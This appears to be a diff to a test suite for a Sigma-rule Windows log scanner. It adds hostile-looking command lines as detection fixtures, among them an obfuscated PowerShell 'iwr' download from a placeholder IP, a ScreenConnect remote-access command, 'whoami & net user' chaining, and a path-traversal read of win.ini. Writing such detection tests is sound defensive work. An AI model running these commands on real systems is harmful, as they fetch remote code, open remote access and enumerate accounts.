@@ -1,7 +1,8 @@
 /**
- * The raw-text scan's literals beyond what plain ASCII needs: JSON's `/` (a `\/` escape sends the
- * record to the parser) and caseless characters beyond ASCII searched as their UTF-8 bytes
- * (windash's dashes, emoji, U+202E). The fast path must give the plain path's matches with every
+ * The raw-text scan's literals beyond plain ASCII: JSON's `/` (a `\/` escape sends the record to
+ * the parser), quotes and `&` in their raw forms (`\"`; `&amp;`, and in XML a quote raw unless the
+ * record holds `&quot;` or `&apos;`), and caseless characters beyond ASCII searched as their
+ * UTF-8 bytes (windash's dashes, emoji, U+202E). The fast path must give the plain path's matches with every
  * SigmaHQ windows rule loaded, escapes and entities included, and a character that another
  * lower-cases into must never be searched raw.
  */
@@ -27,6 +28,10 @@ const COMMAND_LINES = [
   'cmd.exe /c type c:/../../windows/win.ini',
   'cmd.exe /c type c:/../windows/win.ini', // near miss
   'cmd.exe/c whoami',
+  '"cmd/c whoami" & net user',
+  "cmd.exe /c echo 'a' > out.txt & type out.txt",
+  'ScreenConnect.ClientService.exe "?e=Access&y=Guest&h=relay.example&p=443&s=1&k=abc&c=x"',
+  'powershell.exe -c iwr h"t"t"p://198.51.100.7/a.ps1',
   'cmd.exe /c whoami',
   'notepad.exe invoice\u202Etxt.exe',
   'notepad.exe \uD83D\uDE08 \uD83D\uDC80',
@@ -49,12 +54,13 @@ function jsonLines(shape: (r: Rec) => object): string {
   return `${lines.join('\n')}\n`;
 }
 
-/** XML, each record also written with the dashes and U+202E as character references. */
+/** XML, each record also written with the dashes and U+202E as character references, and with quotes as entities. */
 function xmlLines(): string {
   const lines: string[] = [];
   for (const r of recs()) {
     const xml = xmlEvent(r);
-    lines.push(xml, xml.replace(/[\u2013\u2014\u2015\u202e]/g, (c) => `&#x${c.charCodeAt(0).toString(16)};`));
+    const quotes = xml.replace(/(<Data Name="CommandLine">)([^<]*)/, (_, tag: string, text: string) => tag + text.replaceAll('"', '&quot;').replaceAll("'", '&apos;'));
+    lines.push(xml, xml.replace(/[\u2013\u2014\u2015\u202e]/g, (c) => `&#x${c.charCodeAt(0).toString(16)};`), quotes);
   }
   return `<Events>\n${lines.join('\n')}\n</Events>\n`;
 }
@@ -96,10 +102,12 @@ describe(SUITE, function () {
       const fast = await assertSame(file, { rules });
       const byRule = fast.summary.matchesByRule;
       // Not an empty agreement: the rules keyed by the new literals match where they should.
-      const copies = name.includes('XML') ? 2 : 3;
+      const copies = 3;
       assert.equal(byRule['5afee48e-67dd-4e03-a783-f74259dcf998'], 4 * copies, `procdump on lsass with each windash dash: ${JSON.stringify(byRule)}`);
       assert.ok(byRule['087790e3-3287-436c-bccf-cbd0184a7db1'] >= copies, 'path traversal through cmd.exe');
       assert.ok(byRule['ad691d92-15f2-4181-9aa4-723c74f9ddc3'] >= copies, 'right-to-left override');
+      assert.equal(byRule['75bfe6e6-cd8e-429e-91d3-03921e1d7962'], copies, 'ScreenConnect, keyed by literals with &');
+      assert.equal(byRule['f0cdd048-82dc-4f7a-8a7a-b87a52b6d0fd'], copies, 'escape characters, keyed by h"t"t"p');
     });
   }
 });
